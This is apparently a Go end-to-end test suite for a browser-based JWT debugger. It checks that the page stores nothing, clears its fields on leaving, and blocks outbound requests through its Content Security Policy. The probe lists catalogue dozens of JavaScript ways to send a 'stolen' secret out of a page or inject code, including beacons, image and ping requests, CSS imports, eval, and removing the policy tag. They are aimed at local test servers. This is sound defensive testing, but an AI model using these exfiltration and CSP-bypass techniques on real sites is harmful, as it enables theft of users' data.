package e2e_test

import (
	"net/http"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/go-jose/go-jose/v4"

	"jwtdebugger/e2e/drive"
	"jwtdebugger/web/bundle"
)

// kept is everything a page could leave behind. A page on a disk has not all of it.
const kept = `(async () => {
	const told = {};
	for (const [what, ask] of Object.entries({
		cookies: () => document.cookie,
		local: () => JSON.stringify({...localStorage}),
		session: () => JSON.stringify({...sessionStorage}),
		databases: async () => JSON.stringify(await indexedDB.databases()),
		caches: async () => JSON.stringify(await caches.keys()),
		workers: async () => String((await navigator.serviceWorker.getRegistrations()).length),
		files: async () => { let n = 0; for await (const f of (await navigator.storage.getDirectory()).keys()) n++; return String(n) },
		state: () => JSON.stringify(history.state),
		name: () => window.name,
		address: () => location.search + location.hash,
	})) {
		try { told[what] = await ask() } catch (e) { if (location.protocol === "file:" && e.name.endsWith("Error")) continue; throw e }
	}
	return told;
})()`

var nothingKept = map[string]string{
	"cookies": "", "local": "{}", "session": "{}", "databases": "[]", "caches": "[]",
	"workers": "0", "files": "0", "state": "null", "name": "", "address": "",
}

func wantNothingKept(t *testing.T, page *drive.Tab, when string) {
	t.Helper()
	got := drive.Eval[map[string]string](page, kept)
	if len(got) < 6 {
		t.Errorf("%s only %v was looked at.", when, got)
	}
	for what, is := range got {
		if is != nothingKept[what] {
			t.Errorf("%s the page keeps %s: %q", when, what, is)
		}
	}
}

// TestSilent is the first promise: a whole session of use sends nothing and stores nothing.
// The handler's log is the witness; the tab fails the test for every request in it.
func TestSilent(t *testing.T) {
	t.Parallel()
	asUsers(t)
	page := open(t)
	wantNothingKept(t, page, "After loading")
	page.PasteToken(mint(t, jose.RS256, rsaKey(), map[string]any{
		// Addresses in a token are not to be followed.
		"jku": "https://issuer.example/keys", "x5u": "https://issuer.example/cert",
	}, claims("iss", "https://issuer.example", "exp", time.Hour, "picture", "https://issuer.example/p.png")))
	page.PasteKey(privatePEM(rsaKey()))
	page.WantVerdict(verdict{"signature": "valid"})
	page.Edit("payload", claims("sub", "bob"))
	page.Fill("policy-issuer", "https://issuer.example")
	page.Choose("example", "ES256")
	page.Click("#theme")
	page.Click("#clear")
	page.Settle()
	page.PasteToken("https://app.example/callback?token=" + hs256(t, `{"a":1}`))
	page.PasteKey(secret)
	wantNothingKept(t, page, "After a session")
	for _, request := range page.Late() {
		t.Errorf("The session sent a request: %s", request)
	}
}

// TestLeaving: whoever comes back, by the browser's Back, finds nothing in the fields.
func TestLeaving(t *testing.T) {
	t.Parallel()
	asUsers(t)
	page := open(t)
	page.PasteToken(hs256(t, `{"sub":"annabel"}`))
	page.PasteKey(secret)
	page.Fill("policy-subject", "annabel")
	page.WantVerdict(verdict{"signature": "valid"})
	// What "back" may show is put away as it is when this event ends: no answer comes any more.
	if left := drive.Eval[[]string](page, `(() => {
		dispatchEvent(new PageTransitionEvent("pagehide", {persisted: true}));
		return [...document.querySelectorAll("main *")].filter((e) => [e.textContent, e.value, e.memo].join(" ").includes("annabel")).map((e) => e.id || e.className);
	})()`); len(left) > 0 {
		t.Errorf("Put away with the content of the token in %q", left)
	}
	page.Settle()
	page.PasteToken(hs256(t, `{"sub":"annabel"}`))
	page.PasteKey(secret)
	page.Leave()
	page.Ready()
	for _, id := range []string{"token", "header", "payload", "key", "policy-subject"} {
		if got := page.Value(id); got != "" {
			t.Errorf("#%s still holds %q", id, got)
		}
	}
	page.WantVerdict(verdict{"signature": "none", "alg": ""})
	page.PasteToken(hs256(t, `{"sub":"ann"}`))
	page.PasteKey(secret)
	page.WantVerdict(verdict{"signature": "valid"})
}

// TestLeavingADialog: a dialog does not stand open for whoever comes back, nothing is left in it,
// and no answer comes into it that was under way when the page was left.
func TestLeavingADialog(t *testing.T) {
	t.Parallel()
	page := open(t)
	for opener, dialog := range map[string]string{"to-report": "report", "to-redact": "redact", "copy-link": "share"} {
		for _, answered := range []bool{true, false} {
			page.PasteToken(mint(t, jose.RS256, rsaKey(), nil, claims("sub", "annabel", "email", "annabel@example.com", "exp", time.Hour)))
			page.PasteKey(publicPEM(rsaKey().Public()))
			page.Fill("policy-issuer", "https://annabel.example")
			page.Settle()
			drive.Eval[any](page, `document.getElementById(`+quoted(opener)+`).click()`)
			page.Wait(dialog+" is open", `document.getElementById(`+quoted(dialog)+`).open`)
			if answered {
				page.Settle()
			}
			drive.Eval[any](page, `dispatchEvent(new PageTransitionEvent("pagehide", {persisted: true}))`)
			drive.Eval[any](page, frame) // the dialog tells that it is closed in a task of its own
			page.Settle()
			if left := drive.Eval[[]string](page, `[...document.querySelectorAll("main *, dialog, dialog *, #paper")].filter((e) => e.open && e.localName === "dialog" || [e.textContent, e.value, e.memo].join(" ").includes("annabel")).map((e) => e.id || e.className || e.localName)`); len(left) > 0 {
				t.Fatalf("%s, answered %t: %q is left of what the token was", dialog, answered, left)
			}
		}
	}
}

// A probe is a way out of the page, or a way in for code. Its expression gives "refused", or
// says what happened. What starts with /probe is looked for in the log of the server, which
// is home.
type probe struct{ name, expression string }

var probes = []probe{
	{"fetch", `fetch(home + "/probe-fetch?" + stolen).then(() => "sent", () => "refused")`},
	{"fetch without cors", `fetch(home + "/probe-nocors", {mode: "no-cors", keepalive: true}).then(() => "sent", () => "refused")`},
	{"XMLHttpRequest", `new Promise((done) => {
		const x = new XMLHttpRequest();
		x.onload = () => done("sent"); x.onerror = () => done("refused");
		try { x.open("GET", home + "/probe-xhr"); x.send(); } catch { done("refused"); }
	})`},
	{"WebSocket", `new Promise((done) => {
		try {
			const s = new WebSocket(home.replace("http", "ws") + "/probe-socket");
			s.onopen = () => done("open"); s.onerror = () => done("refused");
		} catch { done("refused"); }
	})`},
	{"EventSource", `new Promise((done) => {
		try {
			const s = new EventSource(home + "/probe-events");
			s.onopen = () => { s.close(); done("open"); }; s.onerror = () => { s.close(); done("refused"); };
		} catch { done("refused"); }
	})`},
	{"fetch elsewhere", `fetch(elsewhere + "/probe-fetch", {mode: "no-cors"}).then(() => "sent", () => "refused")`},
	{"eval", `(() => { try { return "ran: " + (0, eval)("1+1"); } catch { return "refused"; } })()`},
	{"Function", `(() => { try { return "ran: " + new Function("return 2")(); } catch { return "refused"; } })()`},
	{"a timer with text", `new Promise((done) => {
		globalThis.ranByTimer = false;
		try { setTimeout("globalThis.ranByTimer = true", 0); } catch {}
		setTimeout(() => setTimeout(() => done(globalThis.ranByTimer ? "ran" : "refused"), 0), 0);
	})`},
	{"import()", `import(home + "/probe-import.js").then(() => "ran", () => "refused")`},
	{"import() of data", `import("data:text/javascript,globalThis.ran=1").then(() => "ran", () => "refused")`},
	{"a worker", `(() => { try { new Worker(home + "/probe-worker.js"); return "started"; } catch { return "refused"; } })()`},
	{"a worker of a blob", `(() => { try { new Worker(URL.createObjectURL(new Blob(["fetch('/probe-blob')"]))); return "started"; } catch { return "refused"; } })()`},
	{"a shared worker", `(() => { try { new SharedWorker(home + "/probe-shared.js"); return "started"; } catch { return "refused"; } })()`},
	{"a cache that fetches", `caches.open("probe").then((c) => c.add(home + "/probe-cache?" + stolen)).then(() => "sent", () => "refused").finally(() => caches.delete("probe"))`},
	{"WebTransport", `(() => { try { return new WebTransport("https://localhost:9/").ready.then(() => "open", () => "refused"); } catch { return "refused"; } })()`},
	{"a font", `new FontFace("probe", "url(" + home + "/probe-font)").load().then(() => "sent", () => "refused")`},
	{"a policy by the page's name", `(() => { try { trustedTypes.createPolicy("jwtdebugger", {createScriptURL: (s) => s}); return "made"; } catch { return "refused"; } })()`},
	{"a policy by another name", `(() => { try { trustedTypes.createPolicy("other", {createScriptURL: (s) => s}); return "made"; } catch { return "refused"; } })()`},
}

var pageProbes = []probe{
	{"a beacon", `navigator.sendBeacon(home + "/probe-beacon", stolen) ? "refused" : "refused"`}, // it always claims to be queued: the log decides
	{"an image", `new Promise((done) => { const i = new Image(); i.onload = () => done("sent"); i.onerror = () => done("refused"); i.src = home + "/probe-image?" + stolen; })`},
	{"a frame", `(() => { const f = document.createElement("iframe"); f.src = home + "/probe-frame"; document.body.append(f); f.remove(); return "refused"; })()`},
	{"innerHTML", `(() => { try { document.createElement("div").innerHTML = "<b>x</b>"; return "written"; } catch { return "refused"; } })()`},
	{"document.write", `(() => { try { document.write("<b>x</b>"); return "written"; } catch { return "refused"; } })()`},
	{"insertAdjacentHTML", `(() => { try { document.body.insertAdjacentHTML("beforeend", "<i></i>"); return "written"; } catch { return "refused"; } })()`},
	{"a script's text", `(() => { try { const s = document.createElement("script"); s.text = "globalThis.ranScript = 1"; document.body.append(s); s.remove(); return globalThis.ranScript ? "ran" : "refused"; } catch { return "refused"; } })()`},
	{"a script's address", `(() => { try { const s = document.createElement("script"); s.src = home + "/probe-script.js"; document.body.append(s); s.remove(); return "added"; } catch { return "refused"; } })()`},
	{"a handler in an attribute", `(() => { const b = document.createElement("button"); try { b.setAttribute("onclick", "globalThis.ranHandler = 1"); } catch {} b.click(); return globalThis.ranHandler ? "ran" : "refused"; })()`},
	{"an address that is a script", `new Promise((done) => {
		const a = document.createElement("a"); a.href = "javascript:globalThis.ranLink=1"; document.body.append(a);
		try { a.click(); } catch {}
		a.remove(); setTimeout(() => done(globalThis.ranLink ? "ran" : "refused"), 0);
	})`},
	{"a style with an address", `(() => { const s = document.createElement("style"); s.textContent = "body { background: url(/probe-style.png) }"; document.head.append(s); const was = s.sheet?.cssRules.length; s.remove(); return was ? "applied" : "refused"; })()`},
	{"a style attribute", `(() => { const d = document.createElement("div"); d.setAttribute("style", "color: red"); return d.style.color ? "applied" : "refused"; })()`},
	{"a rule with an address", `(() => { const d = document.createElement("div"); d.style.backgroundImage = "url(/probe-background.png)"; document.body.append(d); getComputedStyle(d).backgroundImage; d.offsetWidth; d.remove(); return "refused"; })()`},
	{"a form", `new Promise((done) => {
		document.addEventListener("securitypolicyviolation", (e) => { if (e.effectiveDirective === "form-action") done("refused"); });
		const f = document.createElement("form"); f.action = home + "/probe-form"; document.body.append(f); f.submit(); f.remove();
	})`},
	{"a preload", `(() => { const l = document.createElement("link"); l.rel = "preload"; l.as = "fetch"; l.href = home + "/probe-preload"; document.head.append(l); l.remove(); return "refused"; })()`},
	{"a prefetch elsewhere", `(() => { const l = document.createElement("link"); l.rel = "prefetch"; l.href = elsewhere + "/probe-prefetch"; document.head.append(l); return "refused"; })()`},
	{"a style sheet elsewhere", `new Promise((done) => { const l = document.createElement("link"); l.rel = "stylesheet"; l.onerror = () => done("refused"); l.onload = () => done("loaded"); l.href = elsewhere + "/probe-sheet.css"; document.head.append(l); })`},
	{"an image elsewhere", `new Promise((done) => { const i = new Image(); i.onload = () => done("sent"); i.onerror = () => done("refused"); i.src = elsewhere + "/probe-image?" + stolen; })`},
	{"a beacon elsewhere", `(() => { navigator.sendBeacon(elsewhere + "/probe-beacon", stolen); return "refused"; })()`},
	{"a base", `(() => { const b = document.createElement("base"); b.href = "https://other.example/"; document.head.append(b); const moved = !document.baseURI.startsWith(location.origin); b.remove(); return moved ? "moved" : "refused"; })()`},
	{"sound", `new Promise((done) => { const a = new Audio(home + "/probe-sound"); a.onerror = () => done("refused"); a.oncanplay = () => done("sent"); })`},
	// A script that is named by its hash may come from anywhere, and what is only preloaded need
	// not be what its hash says: until the page has shut itself off (loop/lock.js), this goes out.
	{"a preload that names the page's script", linked("{rel: 'preload', as: 'script', integrity: hash}", "/probe-preload-script")},
	{"the same, with cors", linked("{rel: 'preload', as: 'script', integrity: hash, crossOrigin: 'anonymous'}", "/probe-preload-cors")},
	{"a module preload that names it", linked("{rel: 'modulepreload', integrity: hash}", "/probe-preload-module")},
	{"a script that names it", `(() => { try { const s = document.createElement("script"); s.integrity = hash; s.src = elsewhere + "/probe-named.js"; document.head.append(s); return "added"; } catch { return "refused"; } })()`},
	{"a style sheet", linked("{rel: 'stylesheet'}", "/probe-sheet.css")},
	{"a preload of a style sheet", linked("{rel: 'preload', as: 'style'}", "/probe-preload.css")},
	{"a prefetch", linked("{rel: 'prefetch'}", "/probe-prefetch")},
	{"a style sheet that a rule imports", `(() => { try { document.styleSheets[0].insertRule("@import url(" + home + "/probe-import.css?" + stolen + ")", 0); } catch {} return "refused"; })()`},
	{"a style sheet made by a script", `(() => {
		const s = new CSSStyleSheet(); s.replaceSync("footer { background: url(" + home + "/probe-adopted?" + stolen + ") } @font-face { font-family: p; src: url(" + home + "/probe-face) } footer { font-family: p }");
		document.adoptedStyleSheets.push(s); document.body.offsetWidth; document.adoptedStyleSheets.pop(); return "refused";
	})()`},
	{"an icon", linked("{rel: 'icon'}", "/probe-icon")},
	{"a web manifest", linked("{rel: 'manifest'}", "/probe-manifest")},
	{"a ping", `(() => { const a = document.createElement("a"); a.href = "#"; a.ping = home + "/probe-ping?" + stolen; document.body.append(a); a.click(); a.remove(); history.replaceState(null, "", location.href.split("#")[0]); return "refused"; })()`},
	{"an object", `(() => { try { const o = document.createElement("object"); o.data = home + "/probe-object"; document.body.append(o); o.remove(); return "added"; } catch { return "refused"; } })()`},
	{"an embed", `(() => { try { const o = document.createElement("embed"); o.src = home + "/probe-embed"; document.body.append(o); o.remove(); return "added"; } catch { return "refused"; } })()`},
	{"a picture before a film", `(() => { const v = document.createElement("video"); v.poster = home + "/probe-poster?" + stolen; document.body.append(v); v.offsetWidth; v.remove(); return "refused"; })()`},
	{"a drawing from elsewhere", `(() => { const s = document.createElementNS("http://www.w3.org/2000/svg", "svg"); for (const [name, what] of [["use", "#a"], ["image", ""]]) { const u = document.createElementNS(s.namespaceURI, name); u.setAttribute("href", home + "/probe-drawing?" + stolen + what); s.append(u); } document.body.append(s); s.getBoundingClientRect(); s.remove(); return "refused"; })()`},
	{"a frame with text", `(() => { try { document.createElement("iframe").srcdoc = "<script>top.ran = 1</script>"; return "written"; } catch { return "refused"; } })()`},
	{"markup by a parser", `(() => { try { new DOMParser().parseFromString("<b>x</b>", "text/html"); return "parsed"; } catch { return "refused"; } })()`},
	{"markup by a range", `(() => { try { document.createRange().createContextualFragment("<b>x</b>"); return "parsed"; } catch { return "refused"; } })()`},
	{"an inline script", `(() => { try { const s = document.createElement("script"); s.append("globalThis.ranInline = 1"); document.head.append(s); s.remove(); } catch {} return globalThis.ranInline ? "ran" : "refused"; })()`},
	{"an import map", `(() => { try { const s = document.createElement("script"); s.type = "importmap"; s.textContent = "{}"; document.head.append(s); return "added"; } catch { return "refused"; } })()`},
	{"rules of speculation", `(() => { try { const s = document.createElement("script"); s.type = "speculationrules"; s.textContent = "{}"; document.head.append(s); return "added"; } catch { return "refused"; } })()`},
	{"a looser policy", `fetch(home + "/probe-looser").catch(() => { const m = document.createElement("meta"); m.httpEquiv = "Content-Security-Policy"; m.content = "connect-src *"; document.head.append(m); return fetch(home + "/probe-looser") }).then(() => "sent", () => "refused")`},
	{"the lock taken away", `(() => { document.getElementById("lock").remove(); return fetch(home + "/probe-unlocked").then(() => "sent", () => "refused"); })()`},
	{"a preload after that", linked("{rel: 'preload', as: 'script', integrity: hash}", "/probe-preload-late")},
	{"a service worker", `navigator.serviceWorker.register(home + "/probe-service.js").then(() => "registered", () => "refused")`},
}

var workerProbes = []probe{
	{"importScripts", `(() => { try { importScripts(home + "/probe-scripts.js"); return "ran"; } catch { return "refused"; } })()`},
	{"importScripts of a blob", `(() => { try { importScripts(URL.createObjectURL(new Blob(["self.ran = 1"]))); return "ran"; } catch { return "refused"; } })()`},
}

// linked is a probe by a link element with these members, at home and elsewhere. Whether the
// browser tells of a refusal or not, the logs do.
func linked(members, path string) string {
	return `Promise.all([home, elsewhere].map((host) => new Promise((done) => {
		const l = document.createElement("link");
		l.onerror = () => done("refused"); l.onload = () => done("loaded");
		Object.assign(l, ` + members + `, {href: host + "` + path + `?" + stolen});
		document.head.append(l);
		// An answer would come at once, before what is asked for behind it.
		if (!["stylesheet", "preload", "modulepreload"].includes(l.rel)) done("refused");
	}))).then((came) => came.includes("loaded") ? "loaded" : "refused")`
}

// hosts are the two ways to be served: with the headers that ship, and as files on a host
// that sends none.
var hosts = map[string]func(*testing.T) http.Handler{
	"with headers":    shipped,
	"without headers": func(t *testing.T) http.Handler { return drive.Plain(http.FS(files(t))) },
}

// TestPolicyHolds tries every way out, in the page and in the engine's worker: of the page on
// a host, and of the single file on a host and on a disk. No policy stops a navigation.
func TestPolicyHolds(t *testing.T) {
	t.Parallel()
	for _, place := range []struct {
		name, host string
		single     bool
		whole      bool // in Chromium, as users have it
		address    func(*testing.T) string
	}{
		{"the page, with headers", "with headers", false, true, func(*testing.T) string { return "/" }},
		{"the page, without headers", "without headers", false, false, func(*testing.T) string { return "/" }},
		{"the single file, with headers", "with headers", true, false, func(*testing.T) string { return "/" + bundle.SingleName }},
		{"the single file, without headers", "without headers", true, false, func(*testing.T) string { return "/" + bundle.SingleName }},
		{"the single file, from a disk", "without headers", true, true, func(t *testing.T) string { return onDisk(t, nil) }},
	} {
		t.Run(place.name, func(t *testing.T) {
			t.Parallel()
			if place.whole {
				asUsers(t)
			}
			page, site := tab(t, hosts[place.host](t), drive.Setup{})
			page.Visit(place.address(t))
			page.Ready()
			inPage := append(append([]probe{}, probes...), pageProbes...)
			workers := 1
			if place.single {
				workers = 2 // its loader is made of a blob, too
			}
			page.WaitWorker(workers)
			// What the browser says about each refusal, and its own list of requests, which
			// holds those that it refused. What got out is in the site's log.
			page.Expect("Content Security Policy", "violates the following", "Trusted", "/probe", "Refused", "blocked by CSP")
			engine := page.Engine()
			if loader := page.Workers()[0]; loader.Alive() {
				t.Errorf("The loader, which may fetch, is still there: %s", loader.URL)
			}
			elsewhere := drive.Serve(t, http.NotFoundHandler())
			loot := `globalThis.stolen = "secret"; globalThis.home = ` + quoted(site.URL) + `; globalThis.elsewhere = ` + quoted(elsewhere.URL) + `; 1`
			drive.Eval[any](page, loot+`; globalThis.hash = /'(sha256-[^']+)' 'wasm/.exec(document.querySelector("meta[http-equiv]").content)[1]; 1`)
			drive.EvalIn[any](engine, loot)
			for _, p := range inPage {
				if got := drive.Eval[string](page, p.expression); got != "refused" {
					t.Errorf("In the page, %s: %s", p.name, got)
				}
			}
			for _, p := range append(append([]probe{}, probes...), workerProbes...) {
				if got := drive.EvalIn[string](engine, p.expression); got != "refused" {
					t.Errorf("In the engine's worker, %s: %s", p.name, got)
				}
			}
			for _, request := range site.Log() {
				if strings.Contains(request.Path, "probe") {
					t.Errorf("This reached the server: %s", request)
				}
			}
			for _, request := range elsewhere.Log() {
				t.Errorf("This reached another server: %s", request)
			}
			// The page still works.
			page.PasteKey(secret)
			page.PasteToken(hs256(t, `{"a":1}`))
			page.WantVerdict(verdict{"signature": "valid"})

			// What no policy stops, and SECURITY.md says so: the page goes somewhere else.
			if place.address(t) == "/" {
				page.Expect("/left")
				drive.Eval[any](page, `location.href = elsewhere + "/left?" + stolen; 1`)
				await(t, "the page goes elsewhere", func() bool {
					return slices.ContainsFunc(elsewhere.Log(), func(r drive.Request) bool { return r.Path == "/left?secret" })
				})
			}
		})
	}
}

// await waits until something holds outside of the page, where nothing tells that it changed.
func await(t *testing.T, what string, holds func() bool) {
	t.Helper()
	for end := time.Now().Add(drive.Patience); !holds(); time.Sleep(20 * time.Millisecond) {
		if time.Now().After(end) {
			t.Fatalf("Waited in vain for this: %s.", what)
		}
	}
}

// TestPlainHost: files on a host that neither compresses nor sends a header.
func TestPlainHost(t *testing.T) {
	t.Parallel()
	page, site := tab(t, hosts["without headers"](t), drive.Setup{})
	page.Open()
	page.Choose("example", "ES256")
	page.WantVerdict(verdict{"signature": "valid"})
	packed := slices.IndexFunc(site.Log(), func(r drive.Request) bool {
		return strings.HasSuffix(r.Path, ".wasm.gz") && r.Status == http.StatusOK && r.Encoding == ""
	})
	if packed < 0 {
		t.Errorf("The engine was not fetched as .wasm.gz: %v", site.Log())
	}
}

// TestBelowAPath: the bundle knows no absolute address.
func TestBelowAPath(t *testing.T) {
	t.Parallel()
	page, _ := tab(t, http.StripPrefix("/tools/jwt", hosts["without headers"](t)), drive.Setup{})
	page.Visit("/tools/jwt/")
	page.Ready()
	page.Choose("example", "HS256")
	page.WantVerdict(verdict{"signature": "valid"})
}

// TestCompressed: the handler that ships sends the engine once, in brotli.
func TestCompressed(t *testing.T) {
	t.Parallel()
	page, site := tab(t, shipped(t), drive.Setup{})
	page.Open()
	for _, r := range site.Log() {
		if strings.HasSuffix(r.Path, ".wasm") && r.Encoding != "br" && r.Encoding != "zstd" {
			t.Errorf("The engine came as %q: %s", r.Encoding, r)
		}
	}
}
